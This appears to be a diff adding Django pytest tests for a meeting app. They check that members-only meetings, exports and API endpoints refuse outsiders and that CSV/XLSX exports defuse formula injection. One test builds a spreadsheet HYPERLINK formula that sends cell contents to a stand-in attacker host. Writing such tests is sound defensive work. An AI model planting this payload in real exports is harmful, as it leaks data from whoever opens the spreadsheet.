@@ -43,6 +43,7 @@ pytestmark = pytest.mark.django_db
 # The meeting tests' fixtures: a network, its coordinator, slides in the test's own folder.
 network = meeting_fixtures.network
 coordinator = meeting_fixtures.coordinator
+outsider = meeting_fixtures.outsider
 _slide_storage = meeting_fixtures._slide_storage
 
 
@@ -479,3 +480,163 @@ def test_a_confirmed_guest_place_under_my_address_is_mine_already(member_rep):
 
     with pytest.raises(RegistrationRefused):
         registration_register(meeting=meeting, person=member_rep)
+
+
+# Every address of a members-only meeting, as everyone who may not see it -------------
+
+
+@pytest.fixture
+def closed_meeting(network, office_user, member_rep):
+    """A members-only meeting with an item, slides, a question and a registration."""
+    meeting = make_meeting(network, visibility=Visibility.MEMBERS, capacity=5)
+    item = programme_item_add(
+        meeting=meeting, by=office_user, start_time=dt.time(11), title="Punkt", kind="theme"
+    )
+    attachment = slide_attach(
+        item=item, by=office_user, name="bilder.pptx", data=samples.pptx_bytes()
+    )
+    question = host_question_add(meeting=meeting, by=office_user, text="Fråga")
+    registration = registration_register(meeting=meeting, person=member_rep)
+    return meeting, item, attachment, question, registration
+
+
+def outsiders(network, region, outsider, plain_user, unconfirmed_user):
+    """Everyone who may not see the network's members-only meetings; the former
+    representative and the deactivated account are still in the network (and coordinate it)."""
+    from tests.factories import AffiliationFactory
+
+    ended = UserFactory(email="f-d-medlem@example.se", name="Före Detta")
+    AffiliationFactory(person=ended, organisation=region, status=AffiliationStatus.ENDED)
+    deactivated = UserFactory(email="avstangd@example.se", name="Avstängd", is_active=False)
+    AffiliationFactory(person=deactivated, organisation=region)
+    for person in (ended, deactivated):
+        NetworkMembership.objects.create(network=network, person=person, is_coordinator=True)
+    return {
+        "anonymous": None,
+        "plain": plain_user,
+        "unconfirmed": unconfirmed_user,
+        "other_network": outsider,
+        "affiliation_ended": ended,
+        "deactivated": deactivated,
+    }
+
+
+def test_no_address_of_a_members_only_meeting_answers_those_outside(
+    client, closed_meeting, network, region, outsider, plain_user, unconfirmed_user
+):
+    meeting, item, attachment, question, registration = closed_meeting
+    m = f"/moten/{meeting.pk}"
+    reads = [
+        f"{m}/",
+        f"{m}/kalender.ics",
+        f"{m}/bilder/{attachment.pk}/",
+        f"{m}/vard/",
+        f"{m}/vard/andra/",
+        f"{m}/vard/deltagare/",
+        f"{m}/vard/deltagare.csv",
+        f"{m}/vard/deltagare.xlsx",
+        f"{m}/vard/namnlista/",
+    ]
+    writes = [
+        (f"{m}/anmal/", {"dietary_needs": "", "guest-name": "X", "guest-email": "x@example.org"}),
+        (f"{m}/avanmal/", {}),
+        (f"{m}/vard/andra/", {"title": "Kapad"}),
+        (f"{m}/vard/punkter/", {"title": "Ny", "start_time": "11:00", "kind": "theme"}),
+        (f"{m}/vard/punkter/{item.pk}/ta-bort/", {}),
+        (f"{m}/vard/fragor/", {"text": "Ny fråga"}),
+        (f"{m}/vard/fragor/{question.pk}/ta-bort/", {}),
+        (f"{m}/vard/dokumentation/", {"notes": "Kapad", "decisions": ""}),
+        (f"{m}/vard/deltagare/{registration.pk}/avanmal/", {}),
+    ]
+    api = f"/api/v1/meetings/{meeting.pk}"
+    for role, person in outsiders(network, region, outsider, plain_user, unconfirmed_user).items():
+        client.logout()
+        headers = {}
+        if person is not None:
+            client.force_login(person)
+            if person.is_active:
+                headers = bearer(person)
+        for url in reads:
+            response = client.get(url)
+            assert response.status_code in (302, 404), (role, url, response.status_code)
+            if response.status_code == 302:
+                assert "next=" in response.url, (role, url, response.url)
+        for url, data in writes:
+            response = client.post(url, data)
+            assert response.status_code in (302, 404), (role, url, response.status_code)
+            if response.status_code == 302:
+                # Only ever to the sign-in page (for those not signed in).
+                assert "next=" in response.url, (role, url, response.url)
+        for method, url in (
+            ("get", api),
+            ("post", f"{api}/registrations"),
+            ("get", f"{api}/registrations"),
+            ("delete", f"{api}/registrations/me"),
+        ):
+            response = getattr(client, method)(
+                url, content_type="application/json", headers=headers
+            )
+            assert response.status_code in (401, 404), (role, method, url, response.status_code)
+        listed = client.get("/api/v1/meetings", headers=headers).json()
+        assert meeting.pk not in [row["id"] for row in listed], role
+    meeting.refresh_from_db()
+    registration.refresh_from_db()
+    assert (meeting.title, meeting.notes) != ("Kapad", "Kapad")
+    assert meeting.notes == ""
+    assert meeting.items.count() == 1 and meeting.questions.count() == 1
+    assert meeting.registrations.count() == 1
+    assert registration.status == RegistrationStatus.REGISTERED
+
+
+def test_a_host_cannot_reach_another_meetings_rows_through_their_own(
+    client, coordinator, network, closed_meeting, office_user
+):
+    other, item, attachment, question, registration = closed_meeting
+    own = make_meeting(network)
+    client.force_login(coordinator)
+    m = f"/moten/{own.pk}"
+    assert client.get(f"{m}/bilder/{attachment.pk}/").status_code == 404
+    for url in (
+        f"{m}/vard/punkter/{item.pk}/ta-bort/",
+        f"{m}/vard/punkter/{item.pk}/bilder/",
+        f"{m}/vard/fragor/{question.pk}/ta-bort/",
+        f"{m}/vard/deltagare/{registration.pk}/avanmal/",
+    ):
+        assert client.post(url, {}).status_code == 404, url
+    registration.refresh_from_db()
+    assert registration.status == RegistrationStatus.REGISTERED
+    assert other.items.count() == 1 and other.questions.count() == 1
+
+
+# CSV and XLSX: no cell people typed is ever a formula ----------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_exported_cell_is_a_formula(client, coordinator, network, start):
+    import csv
+
+    from openpyxl import load_workbook
+
+    formula = f'{start}HYPERLINK("http://angripare.example/?"&A1;"klicka")'
+    meeting = make_meeting(network, capacity=5)
+    question = host_question_add(meeting=meeting, by=coordinator, text=f"{start}SUM(1;2)")
+    guest = registration_register_guest(
+        meeting=meeting,
+        name=formula,
+        email=f"{'=' if start == '=' else 'x'}1+2@example.org",
+        organisation_name=formula,
+        dietary_needs=formula,
+        answers={question.pk: formula},
+    )
+    assert guest.pk
+    client.force_login(coordinator)
+    response = client.get(f"/moten/{meeting.pk}/vard/deltagare.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    for cell in [*rows[0], *rows[1]]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    response = client.get(f"/moten/{meeting.pk}/vard/deltagare.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", cell.value
+            assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.value
